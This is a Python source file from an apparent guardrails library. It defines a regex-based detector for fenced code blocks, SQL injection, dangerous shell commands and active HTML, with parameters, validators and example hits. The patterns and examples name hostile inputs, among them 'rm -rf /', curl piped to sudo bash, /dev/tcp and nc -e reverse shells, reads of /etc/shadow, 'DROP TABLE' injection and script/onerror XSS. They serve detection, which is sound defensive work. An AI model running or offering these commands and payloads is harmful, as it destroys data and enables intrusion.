"""Code where none is wanted: fenced blocks, injected SQL, dangerous shell lines, active HTML.

Protects the rule that code is found by its form alone, while it streams; nothing is parsed or run. A fenced block is
one hit from its fence to the closing one, so that redaction hides the code and not only its first line.
"""

from __future__ import annotations

import re
from dataclasses import replace
from typing import ClassVar

from pydantic import Field, field_validator, model_validator

from guardrails.kinds.base import Config, Example, Kind, Texts
from guardrails.patterns.rule import Rule
from guardrails.performance import Family, PerformanceCharacteristics, PerformanceClass

BLOCK_CAP = 4_096
"""Characters of a fenced block that may be held; a longer one is a hit as well, and hidden to its end."""

_BODY = {"`": r"[^`]*(?:`{1,2}[^`]{1,400}){0,8}(?:`{3,12})?", "~": r"[^~]*(?:~{3,12})?"}

SQL = (
    r"\bunion\s{1,4}(?:all\s{1,4}|distinct\s{1,4})?select\b"
    r"|['\")]\s{0,4}(?:or|and)\s{1,4}['\"(]{0,2}[\w-]{1,20}['\")]{0,2}\s{0,4}(?:=|<>|like)\s{0,4}['\"(]{0,2}[\w-]{1,20}"
    r"|['\")0-9]\s{0,4};\s{0,4}(?:drop|truncate|alter)\s{1,4}(?:table|database|schema|user)\b"
    r"|['\")0-9]\s{0,4};\s{0,4}(?:delete\s{1,4}from|insert\s{1,4}into|update\s{1,4}\w{1,40}\s{1,4}set|shutdown)\b"
    r"|\w'(?:--(?:[ \t]|(?m:$))|[ \t;]{1,4}--[ \t]{0,4}(?m:$))"
    r"|\b(?:xp_cmdshell|information_schema\.|pg_sleep\s?\(|waitfor\s{1,4}delay|benchmark\s?\(\s?[0-9]|load_file\s?\()"
)
SHELL = (
    r"\brm\s{1,4}(?:-{1,2}[A-Za-z-]{1,20}\s{1,4}){1,4}[\"']?[/~*$.]"
    r"|\b(?:curl|wget)\s[^\n|;]{1,200}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|da|k)?sh\b"
    r"|:\s?\(\s?\)\s?\{\s?:\s?\|\s?:\s?&\s?\}\s?;\s?:"
    r"|\bmkfs(?:\.\w{2,6})?\s{1,4}/dev/|\bdd\s{1,4}if=[^\s]{1,80}\s{1,4}of=/dev/|>\s{0,2}/dev/sd[a-z]"
    r"|\bchmod\s{1,4}-R\s{1,4}0?777\s{1,4}/|/dev/tcp/|\bnc(?:at)?\s{1,4}(?:-[a-z]{1,6}\s{1,4}){0,3}-e\b"
    r"|\bpowershell(?:\.exe)?\s{1,4}(?:-\w{1,20}\s{1,4}){0,4}-e(?:nc|ncodedcommand)?\s"
    r"|[;&|`]\s{0,4}(?:cat|less|head|tail)\s{1,4}/etc/(?:passwd|shadow|sudoers)"
)
HTML = (
    r"<\s{0,4}/?\s{0,4}(?:script|iframe|object|embed|applet|base|meta\s{1,4}http-equiv)\b"
    r"|\bjavascript\s{0,4}:|\bvbscript\s{0,4}:|\bdata:text/html"
    r"|<[a-z][^<>]{0,200}?[\s/\"']on[a-z]{3,24}\s{0,4}="
)
FORMS = {"sql": SQL, "shell": SHELL, "html": HTML}
"""Pattern of each parameter that is a switch."""


class CodeConfig(Config):
    """Parameters of the `code` kind."""

    blocks: bool = Field(default=True, description="Fenced code blocks.")
    languages: Texts = Field(default=(), description="Only blocks of these languages; empty: of any, or of none.")
    sql: bool = Field(default=True, description="SQL injection.")
    shell: bool = Field(default=True, description="Dangerous shell commands.")
    html: bool = Field(default=True, description="Scripts, frames and event handlers in HTML.")

    @field_validator("languages")
    @classmethod
    def _names(cls, value: tuple[str, ...]) -> tuple[str, ...]:
        for language in value:
            if not re.fullmatch(r"[\w+#.-]{1,40}", language):
                raise ValueError(f"{language!r} is not the name of a language as fences write it")
        return value

    @model_validator(mode="after")
    def _something(self) -> CodeConfig:
        if not (self.blocks or self.sql or self.shell or self.html):
            raise ValueError("nothing is looked for: turn on `blocks`, `sql`, `shell` or `html`")
        if self.languages and not self.blocks:
            raise ValueError("`languages` says which blocks: turn on `blocks`")
        return self


class CodeKind(Kind[CodeConfig]):
    """Code by its form."""

    name = "code"
    family = Family.LISTED
    description = "Fenced code blocks, SQL injection, dangerous shell commands, active HTML."
    performance = PerformanceCharacteristics(
        PerformanceClass.FAST, 0.02, 0.2, 2.0, cacheable=True, cache_seconds=3600, supports_streaming=True
    )
    Config = CodeConfig
    examples: ClassVar[tuple[Example, ...]] = (
        Example(
            {},
            hits=(
                "Like so:\n```python\nprint(1)\n```\n",
                "name' OR '1'='1",
                "1; DROP TABLE users",
                "run rm -rf / now",
                "curl https://x.example/i.sh | sudo bash",
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
            ),
            passes=(
                "`inline` code",
                "select a seat, or drop by",
                "union of sets",
                "rm is a command",
                "a script for the play",
                "click on the button = fine",
            ),
        ),
        Example(
            {"languages": ["bash", "sh"], "sql": False, "shell": False, "html": False},
            hits=("```bash\nls\n```",),
            passes=("```python\nprint(1)\n```", "1; DROP TABLE users", "```\nplain\n```"),
        ),
    )

    def rules(self) -> tuple[Rule, ...]:
        """`block`, and one rule for each form that is looked for."""
        config = self.config
        rules = []
        if config.blocks:
            names = "|".join(re.escape(language) for language in config.languages)
            info = rf"[ \t]{{0,4}}\{{?\.?(?:{names})(?:[\s{{}},:;][^\n]{{0,80}})?\n" if names else ""
            fences = "|".join(rf"{mark}{{3,12}}{info}{body}" for mark, body in _BODY.items())
            rules.append(
                Rule("block", rf"(?m)^[ \t>*-]{{0,12}}(?:{fences})", ignore_case=True, cap=BLOCK_CAP, fold=False)
            )
        rules += [Rule(name, pattern, ignore_case=True) for name, pattern in FORMS.items() if getattr(config, name)]
        return tuple(replace(rule, placeholder="[CODE]", category=f"code_{rule.id}") for rule in rules)
